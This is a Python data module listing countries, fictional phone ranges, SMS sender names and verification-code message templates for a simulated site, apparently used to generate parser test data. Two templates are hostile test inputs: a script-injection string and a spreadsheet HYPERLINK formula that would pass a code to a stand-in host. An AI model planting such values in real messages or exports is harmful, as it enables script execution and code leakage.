"""Static vocabulary of the simulated site: countries, cities, senders and message bodies.

Everything here is plain data; `world.py` draws from it with a seeded RNG. Numbers use
fictional or drama ranges where a country has one, so nothing here is a real subscriber.
"""

from __future__ import annotations

from typing import NamedTuple


class CountrySeed(NamedTuple):
    slug: str
    name: str
    calling_code: str
    prefix: str  # national part of the fictional range, after the calling code
    suffix_len: int  # random digits after the prefix
    flag: str
    cities: tuple[str, ...]


# Order matters: the first six are the 2025-26 list from SITE.md section 1.
COUNTRIES: tuple[CountrySeed, ...] = (
    CountrySeed("united-kingdom", "United Kingdom", "44", "77009", 5, "gb",
                ("London", "Manchester", "Leeds", "Bristol", "Glasgow")),
    CountrySeed("finland", "Finland", "358", "7009", 5, "fi",
                ("Helsinki", "Espoo", "Tampere", "Oulu")),
    CountrySeed("poland", "Poland", "48", "7009", 5, "pl",
                ("Warsaw", "Krakow", "Gdansk", "Wroclaw")),
    CountrySeed("belgium", "Belgium", "32", "4709", 5, "be",
                ("Brussels", "Antwerp", "Ghent", "Liege")),
    CountrySeed("netherlands", "Netherlands", "31", "97009", 5, "nl",
                ("Amsterdam", "Rotterdam", "Utrecht", "Eindhoven")),
    CountrySeed("slovenia", "Slovenia", "386", "7009", 5, "si",
                ("Ljubljana", "Maribor", "Celje")),
    CountrySeed("sweden", "Sweden", "46", "70174", 5, "se",
                ("Stockholm", "Gothenburg", "Malmo", "Uppsala")),
    CountrySeed("usa", "USA", "1", "202555", 4, "us",
                ("New York", "Chicago", "Houston", "Seattle", "Denver")),
    CountrySeed("canada", "Canada", "1", "613555", 4, "ca",
                ("Toronto", "Ottawa", "Montreal", "Vancouver")),
    CountrySeed("france", "France", "33", "63998", 4, "fr",
                ("Paris", "Lyon", "Marseille", "Lille")),
    CountrySeed("denmark", "Denmark", "45", "7009", 4, "dk",
                ("Copenhagen", "Aarhus", "Odense")),
)

# Alphanumeric sender IDs as shown by the legacy site.
SENDERS: tuple[str, ...] = (
    "Google", "WhatsApp", "TAXIAPP", "Telegram", "Microsoft", "Amazon", "Uber", "PayPal",
    "Bolt", "Wolt", "Tinder", "Steam", "Revolut", "Facebook", "Instagram", "TikTok",
    "Discord", "Apple", "Verify", "INFO", "ExampleBank", "SHOPCO", "学习平台", "Яндекс",
    "MAILER", "PAYSVC", "NEWSBOT", "Signal",
)

# Bodies. `{code}` is a numeric code, `{app}` the sender's name. Rules that the parser relies
# on: no leading/trailing whitespace, no newlines, no double spaces (the truth body is the cell
# text with <br> turned into one space, so whitespace runs would be ambiguous).
TEMPLATES: tuple[str, ...] = (
    "Your {app} verification code is {code}. Do not share it with anyone.",
    "{code} is your {app} code. Don't share it.",
    "\u200eG-{code} is your Google verification code.",
    "Your code is {code}",
    "Code: {code} Expires in 10 min",
    "Ihr Bestätigungscode lautet {code}. Gültig für 5 Minuten.",
    "Votre code de vérification est {code}. Il expire dans 10 minutes.",
    "Tu código de {app} es {code}",
    "Twój kod weryfikacyjny to {code}. Nie udostępniaj go nikomu.",
    "Vahvistuskoodisi on {code}.",
    "您的验证码为：{code}，5分钟内有效。",
    "認証コード：{code}。このコードを他人と共有しないでください。",
    "\u200fرمز التحقق الخاص بك هو {code}",
    "Ваш код подтверждения: {code}. Никому не сообщайте его.",
    "קוד האימות שלך הוא {code}",
    "[{app}] 인증번호 [{code}]를 입력해주세요.",
    "Code:\u200b{code} (one\u200btime)",
    "<script>alert(1)</script> Your code is {code}",
    '=HYPERLINK("http://example.invalid/?c={code}","Click here")',
    'Hi, "friend", your {app} code is {code}, valid 5 min; don\'t share it.',
    "🔐 {code} is your {app} login code",
    "One-time PIN {code} & nothing else <b>bold</b>",
    "{app}: {code}",
)

# Plain texts that are sent verbatim many times: these make exact repeats common.
FIXED_BODIES: tuple[str, ...] = (
    "Your code is 0000",
    "See you at 7?",
    "Hello there",
    "Welcome aboard!",
    "Weekly digest is ready.",
    "Test",
)

LONG_SENTENCE = (
    "This is a long service notice, sent in several parts and joined by the carrier, "
    "explaining that your account, your devices and your settings were updated; "
)
